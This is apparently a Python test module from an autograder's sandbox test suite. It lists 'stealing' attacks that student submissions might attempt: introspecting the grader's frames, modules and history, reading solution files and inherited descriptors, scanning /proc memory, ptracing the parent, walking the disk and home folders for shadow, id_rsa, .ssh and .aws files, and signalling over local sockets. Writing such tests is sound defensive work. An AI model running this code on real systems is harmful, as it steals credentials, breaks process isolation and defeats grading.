"""Stealing: looking for the reference, the checks, other students' work, and a way to send it."""

from tests.attacks.attack import ONE, Group
from tests.attacks.pages import shown
from tests.attacks.scene import heard

GROUP = Group("stealing")

GROUP.add(
    "frames",
    "the reference stands in a local variable of whoever calls",
    {
        "double": """
        import sys

        def double(x):
            frame = sys._getframe()
            while frame:
                other = frame.f_locals.get("reference")
                if callable(getattr(other, "double", None)):
                    return other.double(x)
                frame = frame.f_back
            return np.array([2.0, 4.0])
        """
    },
    proof="points",
)
GROUP.add(
    "modules",
    "the reference is a module that was imported",
    {
        "double": """
        import sys

        def double(x):
            for name, module in list(sys.modules.items()):
                if name.startswith("reference") and hasattr(module, "double"):
                    return module.double(x)
            return np.array([2.0, 4.0])
        """
    },
    proof="points",
)
GROUP.add(
    "garbage collector",
    "every function of the process can be enumerated, the reference's among them",
    {
        "double": """
        import gc, types

        def double(x):
            for one in gc.get_objects():
                if isinstance(one, types.FunctionType) and one is not double:
                    if one.__name__ == "double" and "In" not in one.__globals__:
                        return one(x)
            raise LookupError
        """
    },
    proof="points",
)
GROUP.add(
    "line cache",
    "the source of the reference is kept for tracebacks",
    {
        "double": """
        import gc, linecache

        texts = ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) == 4]
        texts += [one["source"] for one in gc.get_objects()
                  if type(one) is dict and type(one.get("source")) is str]
        for text in texts:
            if "def double(" in text and "factor" in text and "cache" not in text:
                exec(text)
        """
    },
    proof="points",
)
GROUP.add(
    "the course's folder",
    "solutions, checks, built notebooks and the gradebook are files",
    {
        "double": """
        import glob, json

        for path in glob.glob("@COURSE@/**/*", recursive=True):
            try:
                text = open(path).read()
            except (OSError, UnicodeDecodeError):
                continue
            if "factor = 2" in text:
                lines = json.loads(text)["cells"] if path.endswith("ipynb") else []
                cells = ["".join(one["source"]) for one in lines] or text.split("# %%")
                exec(next(one for one in cells if "factor = 2" in one).split("\\n", 1)[-1]
                     if not lines else next(one for one in cells if "factor = 2" in one))
                break
        """
    },
    proof="points",
)
GROUP.add(
    "a walk over the disk",
    "whatever can be read below /: notebooks, checks.py, databases, homes, keys",
    {
        "double": """
        import os, time

        until, found = time.monotonic() + 1.5, []
        for top in ("@PROJECT@", "/root", "/home", "/tmp", "/var", "/srv", "/mnt", "/run",
                    "/etc"):
            for folder, below, names in os.walk(top):
                below[:] = [one for one in below if one != "site-packages"]
                found += [os.path.join(folder, name) for name in names
                          if name in ("checks.py", "gradebook.db", "notebook.py", "shadow",
                                      "id_rsa", "authorized_keys", "nbgrader_config.py")]
                if time.monotonic() > until:
                    break
        for path in found:
            try:
                text = open(path, encoding="latin-1").read()
            except OSError:
                continue
            if "factor = 2" in text:
                exec(text[text.index("def double("):text.index("### END SOLUTION")])
            if path.endswith(("config.py", ".db", "shadow", "id_rsa")) or "student" in text:
                print("got", "@MARK@", path, sep=":")
        """
    },
    harmed=shown,
)
GROUP.add(
    "the environment",
    "where the course lies is in a variable, or in the command line",
    {
        "double": """
        import os, sys

        said = ":".join([*os.environ.values(), *sys.argv, *sys.path, os.getcwd()])
        roots = [word for word in said.split(":") if word.startswith("/")]
        for root in roots:
            path = os.path.join(root, "solutions/toy/notebook.py")
            if os.path.isfile(path):
                text = open(path).read()
                exec(text[text.index("def double("):text.index("# %% nbgrader={"
                     '"grade_id": "test_double_values"')])
                break
        """
    },
    proof="points",
)
GROUP.add(
    "proc",
    "other processes' memory, open files, working folders and roots",
    {
        "double": """
        import glob, os

        got = []
        for path in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
            for inner in ("solutions/toy/checks.py", "@COURSE@/solutions/toy/checks.py"):
                try:
                    got.append(len(open(path + "/" + inner.lstrip("/")).read()))
                except OSError:
                    pass
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/mem"):
            if str(os.getpid()) in path or "self" in path:
                continue
            try:
                with open(path, "rb") as file:
                    got.append(len(file.read(10)))
            except OSError:
                pass
        if got:
            print("got", "@MARK@", *got, sep=":")

        def double(x):
            return x
        """
    },
    harmed=shown,
)
GROUP.add(
    "the parent's memory",
    "the process that knows the answers is this one's parent",
    {
        "double": """
        import ctypes, os

        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), os.getpid() - 1, 1} - {os.getpid(), 0}:
            room = ctypes.create_string_buffer(64)
            vector = (ctypes.c_void_p * 2)(ctypes.addressof(room), 64)
            far = (ctypes.c_void_p * 2)(0x400000, 64)
            if libc.process_vm_readv(pid, vector, 1, far, 1, 0) > 0:
                print("got", "@MARK@", sep=":")
            if libc.ptrace(16, pid, 0, 0) == 0:
                libc.ptrace(17, pid, 0, 0)
                print("got", "@MARK@", sep=":")

        def double(x):
            return x
        """
    },
    harmed=shown,
)
GROUP.add(
    "open files",
    "what the grader had open is inherited",
    {
        "double": """
        import os

        texts = []
        for end in range(3, 256):
            try:
                if os.path.isfile(f"/dev/fd/{end}") or os.fstat(end).st_mode & 0o170000 == 0o100000:
                    texts.append(os.pread(end, 1_000_000, 0))
            except OSError:
                pass
        for text in texts:
            if b"factor = 2" in text:
                exec(text[text.index(b"def double("):])
        """
    },
)
GROUP.add(
    "history",
    "IPython keeps every cell that ran, hidden lines included, and an earlier session's too",
    {
        "double": """
        shell = get_ipython()
        texts = [*In, *[line for _, _, line in shell.history_manager.get_tail(1000)]]
        for text in texts:
            if "factor = 2" in text or "def double_sum(x):\\n    return float" in text:
                exec(text)
        """
    },
)
GROUP.add(
    "the network",
    "what was asked is sent to somebody who knows the answer",
    {
        "double": """
        import socket

        def double(x):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try:
                    with socket.socket(socket.AF_INET, kind) as one:
                        one.settimeout(0.5)
                        one.connect(("127.0.0.1", @PORT@))
                        one.send(b"@MARK@")
                except OSError:
                    pass
            return x
        """
    },
    harmed=heard,
    proof="harm",
)
GROUP.add(
    "an abstract socket",
    "UNIX sockets without a file are not hidden by hiding files",
    {
        "double": """
        import socket

        try:
            one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            for line in open("/proc/net/unix"):
                name = line.split()[-1]
                if name.startswith("@"):
                    one.connect("\\0" + name[1:])
                    print("got", "@MARK@", sep=":")
        except OSError:
            pass

        def double(x):
            return x
        """
    },
    harmed=shown,
)
GROUP.add(
    "hidden inputs in the output",
    "what the hidden checks ask is written down and printed in a later, visible cell",
    {
        "double": """
        SEEN = []

        def double(x):
            if x.size == 5:
                SEEN.append(":".join(["got", "@MARK@"]))
            print(*SEEN)
            if x.ndim > 1:
                raise ValueError("2 axes" + " ".join(SEEN))
            return x + x
        """,
        "double_sum": """
        def double_sum(x):
            print(*SEEN)
            raise ValueError(" ".join(SEEN))
        """,
    },
    most=ONE,
    harmed=shown,
)
GROUP.add(
    "keys and homes",
    "the instructor's keys, tokens and history lie in the home folder",
    {
        "double": """
        import glob, os

        found = []
        for home in {os.path.expanduser("~"), "/root", *glob.glob("/home/*")}:
            for name in (".ssh", ".netrc", ".bash_history", ".aws", ".config", ".gitconfig",
                         ".jupyter", ".ipython/profile_default/history.sqlite"):
                path = os.path.join(home, name)
                if os.path.exists(path) and os.access(path, os.R_OK) and home != os.getcwd():
                    found.append(path)
        if found:
            print("got", "@MARK@", *found, sep=":")

        def double(x):
            return x
        """
    },
    harmed=shown,
)
